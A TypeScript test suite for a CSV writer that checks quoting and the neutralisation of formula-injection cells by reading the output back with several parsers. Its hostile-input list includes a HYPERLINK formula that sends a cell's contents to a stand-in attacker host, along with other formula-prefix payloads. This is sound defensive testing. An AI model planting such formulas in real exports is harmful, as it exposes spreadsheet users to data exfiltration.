/**
 * The safe CSV writer (lambdas/core/csv/writer.ts): RFC 4180 quoting, formula neutralisation of text cells, numbers as
 * numbers. Hostile cells are written, then read back by independent parsers (Python's csv module, csv-parse) and by the
 * product's own reader; the shortcut for plain cells is checked against csv-stringify itself.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { csvCell, CsvCell, csvChunks, csvRecord } from '../../lambdas/core/csv/writer';
import { readAssignments } from '../../lambdas/core/model/assignmentsCsv';

export const HOSTILE_TEXT = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '@SUM(1,2)',
  '-2+3',
  '-',
  '\tTAB',
  '\rCR first',
  'ACME, Inc',
  'he said "hi"',
  'two\nlines',
  'crlf\r\ninside',
  '＝1+1', // full-width equals sign
  '＠x',
  "'already quoted",
  ' =space first',
  '',
  'plain_id-123',
  'São Paulo',
];
const NUMBERS: CsvCell[] = [-2.5, 0, 3, 1e21, -0.0001, NaN, Infinity, -Infinity, undefined, null];

/** What a reader must get back from a written cell. */
function expected(v: CsvCell): string {
  if (typeof v === 'number') return Number.isFinite(v) ? String(v) : '';
  if (v === null || v === undefined) return '';
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : v;
}

const rows: CsvCell[][] = HOSTILE_TEXT.map((text, i) => [text, i, NUMBERS[i % NUMBERS.length], `${text}|tail`]);
const header = ['text', 'n', 'number', 'text2'];

test('plain cells are written as they are and every other text cell exactly as csv-stringify (escape_formulas) writes it', () => {
  for (const text of [...HOSTILE_TEXT, ...HOSTILE_TEXT.map((t) => `x${t}`), ...HOSTILE_TEXT.map((t) => `${t}x`)]) {
    expect(csvCell(text)).toBe(stringify([[text]], { escape_formulas: true }).slice(0, -1));
  }
  expect(csvCell('abc_DEF-12')).toBe('abc_DEF-12');
});

test('numbers stay numbers: a negative number is not prefixed, NaN and infinities are empty cells', () => {
  expect(csvRecord([-2.5, NaN, Infinity, 0, undefined, null, 7])).toBe('-2.5,,,0,,,7\n');
});

test('hostile cells read back with Python csv, csv-parse and the product reader: same rows, no text cell starting a formula', async () => {
  const text = [...csvChunks(header, rows, 4)].join('');
  const dir = mkdtempSync(join(tmpdir(), 'csv-writer-'));
  const file = join(dir, 'hostile.csv');
  writeFileSync(file, text);
  const want = [header, ...rows.map((r) => r.map(expected))];

  const py = spawnSync('/usr/bin/python3', ['-c', 'import csv, json, sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f: print(json.dumps(list(csv.reader(f))))', file], { encoding: 'utf8' });
  expect(py.stderr).toBe('');
  const pythonRows = JSON.parse(py.stdout) as string[][];
  expect(pythonRows).toEqual(want);
  expect(parse(text, { relax_column_count: false })).toEqual(want);
  for (const row of pythonRows.slice(1)) {
    for (const cell of row) {
      // A cell may begin with "-" only as a number; nothing else may begin a formula.
      expect(/^[=+@\t\r\uFF1D\uFF0B\uFF20]/.test(cell)).toBe(false);
      if (cell.startsWith('-')) expect(Number.isFinite(Number(cell))).toBe(true);
    }
  }
});

test('the product reader reads an assignments.csv with hostile ids as written', async () => {
  const ids = HOSTILE_TEXT.filter((t) => t !== '');
  const text = [...csvChunks(['customer_unique_id', 'segment_id', 'pc1', 'pc2'], ids.map((id, i) => [id, i, -(i + 1) / 3, NaN]))].join('');
  const got: [string, number, number][] = [];
  await readAssignments('assignments.csv', Readable.from([text]), (id, segment, pc1) => got.push([id, segment, pc1]));
  expect(got).toEqual(ids.map((id, i) => [expected(id), i, -(i + 1) / 3]));
});
